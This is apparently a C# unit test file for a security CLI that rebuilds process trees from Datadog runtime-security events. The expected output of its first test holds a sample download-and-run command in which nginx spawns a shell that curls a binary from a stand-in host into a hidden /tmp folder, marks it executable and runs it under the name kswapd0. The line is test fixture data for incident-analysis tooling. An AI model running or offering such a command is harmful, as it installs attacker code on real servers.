using System.Collections.Generic;
using System.IO;
using System.Linq;
using CsmEvents.Tests.Datadog;
using CsmEvents.Tests.Support;

namespace CsmEvents.Tests.Cli;

public class TreeCommandTests
{
    private static string Sample(params string[] parts) => Path.Combine(RepoPaths.Samples, Path.Combine(parts));

    [Fact]
    public void AncestryOfCurlInTheLinuxIncident()
    {
        string file = Sample("linux", "incident-web01.jsonl");
        var run = CliRun.Run(new[] { "tree", file, "--name", "curl", "--ancestry" });
        Assert.Equal("", run.Stderr);
        Assert.Equal(0, run.ExitCode);
        Assert.Equal(new[]
        {
            "host: " + file,
            "systemd (1): /sbin/init",
            "└─ systemd (1187) [thread]: /usr/lib/systemd/systemd",
            "   └─ nginx (1187) [exec]: /usr/sbin/nginx -g 'daemon off; master_process on;'",
            "      └─ nginx (1189) [thread] 1 event: /usr/sbin/nginx -g 'daemon off; master_process on;'",
            "         └─ nginx (24311) [thread]: /usr/sbin/nginx",
            "            └─ sh (24311) [exec] 1 event: sh -c 'mkdir -p /tmp/.x && curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0 && chmod +x /tmp/.x/kswapd0 && /tmp/.x/kswapd0'",
            "               └─ sh (24313) [thread]: /usr/bin/dash",
            "                  └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0",
        }, run.StdoutLines);
    }

    /// <summary>A log record of the Datadog API: an exec event of pid 4242 whose parent is pid 100.</summary>
    private static string LogOnHost(string id, string host, string comm, string parentComm) =>
        "{\"id\":\"" + id + "\",\"type\":\"log\",\"attributes\":{\"attributes\":{\"agent\":{\"rule_id\":\"r\",\"os\":\"linux\"}," +
        "\"evt\":{\"name\":\"exec\"},\"date\":\"2024-05-01T12:00:00Z\",\"process\":{\"pid\":4242,\"ppid\":100,\"comm\":\"" + comm + "\"," +
        "\"parent\":{\"pid\":100,\"ppid\":1,\"comm\":\"" + parentComm + "\"}}},\"host\":\"" + host + "\",\"service\":\"runtime-security-agent\"," +
        "\"timestamp\":\"2024-05-01T12:00:00.000Z\"}}";

    /// <summary>A Datadog API serving one page: the exec of pid 4242 on two hosts, each with its own parent.</summary>
    private static LoopbackServer TwoHostApi()
    {
        string page = "{\"data\":[" + LogOnHost("A1", "web-1", "id", "bash") + "," + LogOnHost("A2", "web-2", "curl", "sshd") + "],\"meta\":{\"page\":{},\"status\":\"done\"}}";
        return new LoopbackServer(ScriptedResponse.Ok(page));
    }

    private static readonly Dictionary<string, string> ApiKeys = new() { ["DD_API_KEY"] = "api-key-0123456789abcdef", ["DD_APP_KEY"] = "app-key-fedcba9876543210" };

    /// <summary>The tree of <see cref="TwoHostApi"/>'s events: one per host.</summary>
    private static readonly string[] TwoHostTree =
    {
        "host: web-1",
        "bash (100) [orphan]",
        "└─ id (4242) 1 event",
        "host: web-2",
        "sshd (100) [orphan]",
        "└─ curl (4242) 1 event",
    };

    [Fact]
    public void ReadsTheDatadogApiAndKeepsEachHostsTreeApart()
    {
        using var server = TwoHostApi();
        var run = CliRun.Run(new[] { "tree", "--query", "@evt.name:exec", "--api-url", server.BaseUrl }, environment: ApiKeys);
        Assert.Equal("", run.Stderr);
        Assert.Equal(0, run.ExitCode);
        Assert.Equal(TwoHostTree, run.StdoutLines);
        Assert.Equal("source:runtime-security-agent (@evt.name:exec)", server.Requests[0].Json.GetProperty("filter").GetProperty("query").GetString());
    }

    [Fact]
    public void EventsSavedFromTheApiAsLogRecordsKeepTheirHostsInALaterTree()
    {
        using var server = TwoHostApi();
        var saved = CliRun.Run(new[] { "get", "--query", "@evt.name:exec", "--api-url", server.BaseUrl, "--format", "datadog-log" }, environment: ApiKeys);
        Assert.Equal("", saved.Stderr);
        Assert.Equal(0, saved.ExitCode);
        Assert.Equal(2, saved.StdoutLines.Length);
        Assert.StartsWith("{\"id\":\"A1\",\"type\":\"log\",\"attributes\":{\"attributes\":{\"agent\":", saved.StdoutLines[0]);
        Assert.EndsWith("},\"host\":\"web-1\",\"service\":\"runtime-security-agent\",\"timestamp\":\"2024-05-01T12:00:00.000Z\"}}", saved.StdoutLines[0]);

        string file = Path.Combine(Path.GetTempPath(), "csm-saved-" + System.Guid.NewGuid().ToString("N") + ".jsonl");
        try
        {
            File.WriteAllText(file, saved.Stdout);
            var run = CliRun.Run(new[] { "tree", file });
            Assert.Equal("", run.Stderr);
            Assert.Equal(0, run.ExitCode);
            Assert.Equal(TwoHostTree, run.StdoutLines);
        }
        finally
        {
            File.Delete(file);
        }
    }

    [Fact]
    public void TheTruncatedLineageShowsItsGapBetweenTheKeptEnds()
    {
        var run = CliRun.Run(new[] { "tree", Sample("linux", "incident-web01.jsonl"), "--pid", "2764", "--ancestry", "--format", "json" });
        Assert.Equal(0, run.ExitCode);
        var node = System.Text.Json.JsonDocument.Parse(run.Stdout).RootElement.GetProperty("roots")[0];
        var path = new System.Collections.Generic.List<string>();
        while (true)
        {
            path.Add(node.GetProperty("pid").ValueKind == System.Text.Json.JsonValueKind.Null ? "gap" : node.GetProperty("pid").GetInt64().ToString());
            var children = node.GetProperty("children");
            if (children.GetArrayLength() == 0) break;
            node = children[0];
        }
        // Oldest kept ancestors from pid 1, then the cut, then the nearest kept ones down to the process itself.
        Assert.Equal("1", path[0]);
        int gap = path.IndexOf("gap");
        Assert.True(gap > 0, string.Join(" > ", path));
        Assert.Equal("24459", path[gap - 1]);
        Assert.Equal("2709", path[gap + 1]);
        Assert.Equal("2764", path.Last());
    }

    [Fact]
    public void FormatsAndUsageErrors()
    {
        string file = Sample("windows", "incident-ws01.jsonl");
        Assert.StartsWith("digraph", CliRun.Run(new[] { "tree", file, "--format", "dot" }).Stdout);
        Assert.StartsWith("flowchart TD", CliRun.Run(new[] { "tree", file, "--format", "mermaid" }).Stdout);
        var bad = CliRun.Run(new[] { "tree", file, "--format", "svg" });
        Assert.Equal(2, bad.ExitCode);
        Assert.Equal(new[] { "csm-events tree: option --format: 'svg' is not text, json, dot or mermaid" }, bad.StderrLines);
    }
}
